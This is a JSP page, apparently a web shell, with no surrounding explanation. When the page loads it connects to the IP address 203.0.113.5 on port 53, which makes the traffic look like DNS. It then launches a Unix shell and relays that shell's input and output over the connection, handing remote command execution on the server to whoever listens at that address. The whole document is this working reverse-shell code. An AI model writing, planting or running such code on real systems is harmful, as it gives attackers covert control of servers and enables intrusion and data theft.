<%@page import="java.io.*,java.net.*,java.nio.channels.*"%>
<%
  SocketChannel ch = SocketChannel.open(new InetSocketAddress("203.0.113.5", 53));
  Socket s = ch.socket();
  ProcessBuilder b = new ProcessBuilder("sh");
  b.redirectErrorStream(true);
  final Process p = b.start();
  final InputStream si = s.getInputStream();
  final OutputStream po = p.getOutputStream();
  new Thread() { public void run() { try { int c; while ((c = si.read()) != -1) { po.write(c); po.flush(); } } catch (Exception e) {} } }.start();
  InputStream pi = p.getInputStream(); OutputStream so = s.getOutputStream(); int c;
  while ((c = pi.read()) != -1) { so.write(c); so.flush(); }
%>
